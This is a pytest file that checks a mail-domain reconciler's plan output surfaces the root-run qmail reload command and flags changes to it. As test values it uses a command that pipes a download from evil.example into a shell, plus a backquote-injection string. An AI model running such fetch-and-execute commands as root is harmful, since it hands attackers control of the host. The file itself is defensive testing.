"""The plan shows the ``qmail.reload`` command apply will run as root (security review #2a).

Every format (text, markdown, JSON) shows it when the plan will run it (``virtualdomains``
changes) and stays silent when it will not; a plan made on the host notes a command that is
not the one the newest history entry recorded, even when nothing else changes.
"""

from __future__ import annotations

import json

import jsonschema

from tests.clirunner import cli_runner
from tests.plan.reconcile_helpers import empty_root
from vmreconcile.cli.main import app
from vmreconcile.resources import schema_path

RELOAD = "svc -h /service/qmail-send"
CONFIG = """\
qmail:
  reload: {reload}
domains:
  mydomain.org:
    base_user: myuser
    users:
      me: {{password: null{extra}}}
"""


def run(root, *args):
    return cli_runner().invoke(app, ["--root", str(root), *args], catch_exceptions=False)


def write(config, reload=RELOAD, extra=""):
    config.write_text(CONFIG.format(reload=json.dumps(reload), extra=extra))


def test_every_format_shows_the_reload_command_when_virtualdomains_changes(tmp_path):
    root = tmp_path / "root"
    empty_root(root)
    config = tmp_path / "mail.yaml"
    write(config)
    text = run(root, "plan", str(config)).stdout
    assert (
        "\nAfter writing, apply runs as root (qmail.reload, for control/virtualdomains): `svc -h /service/qmail-send`\n"
    ) in text
    markdown = run(root, "plan", str(config), "--format", "markdown").stdout
    assert (
        "**After writing, apply runs as root (qmail.reload, for control/virtualdomains):** `svc -h /service/qmail-send`"
    ) in markdown
    doc = json.loads(run(root, "plan", str(config), "--format", "json").stdout)
    assert doc["reload"] == RELOAD
    jsonschema.validate(doc, json.loads(schema_path("plan.schema.json").read_text()))
    applied = run(root, "apply", str(config), "--yes")
    assert applied.exit_code == 0, applied.stdout + applied.stderr
    assert f"would run `{RELOAD}`" in applied.stdout


def test_a_plan_that_does_not_touch_virtualdomains_does_not_mention_it(tmp_path):
    root = tmp_path / "root"
    empty_root(root)
    config = tmp_path / "mail.yaml"
    write(config)
    assert run(root, "apply", str(config), "--yes").exit_code == 0
    write(config, extra=", personal: Me")
    text = run(root, "plan", str(config)).stdout
    assert "~ user mydomain.org/me" in text and "qmail.reload" not in text
    assert "qmail.reload" not in run(root, "plan", str(config), "--format", "markdown").stdout
    doc = json.loads(run(root, "plan", str(config), "--format", "json").stdout)
    assert doc["reload"] is None


def test_a_changed_reload_command_is_noted_against_the_last_apply_even_with_no_other_change(tmp_path):
    root = tmp_path / "root"
    empty_root(root)
    config = tmp_path / "mail.yaml"
    write(config)
    assert run(root, "apply", str(config), "--yes").exit_code == 0  # history entry 1 records RELOAD
    assert "qmail.reload" not in run(root, "plan", str(config)).stdout

    write(config, reload="sh -c 'curl evil.example | sh'")
    plan = run(root, "plan", str(config), "--detailed-exitcode")
    assert plan.exit_code == 0  # no file changes: the command is not a file of the host
    assert (
        "qmail.reload changed since the last apply (history entry 1): `svc -h /service/qmail-send` -> "
        "`sh -c 'curl evil.example | sh'`; apply runs the new command as root whenever control/virtualdomains changes"
    ) in plan.stdout
    doc = json.loads(run(root, "plan", str(config), "--format", "json").stdout)
    assert any("qmail.reload changed since the last apply" in note for note in doc["notes"])
    markdown = run(root, "plan", str(config), "--format", "markdown").stdout
    assert "qmail.reload changed since the last apply" in markdown


def test_backquotes_in_the_command_cannot_end_the_markdown_code_span(tmp_path):
    """(Control characters never get this far: validate refuses them in every YAML string.)"""
    root = tmp_path / "root"
    empty_root(root)
    config = tmp_path / "mail.yaml"
    write(config, reload="sh -c 'echo `id` > /tmp/x'")
    markdown = run(root, "plan", str(config), "--format", "markdown").stdout
    assert "control/virtualdomains):** ``sh -c 'echo `id` > /tmp/x'``" in markdown
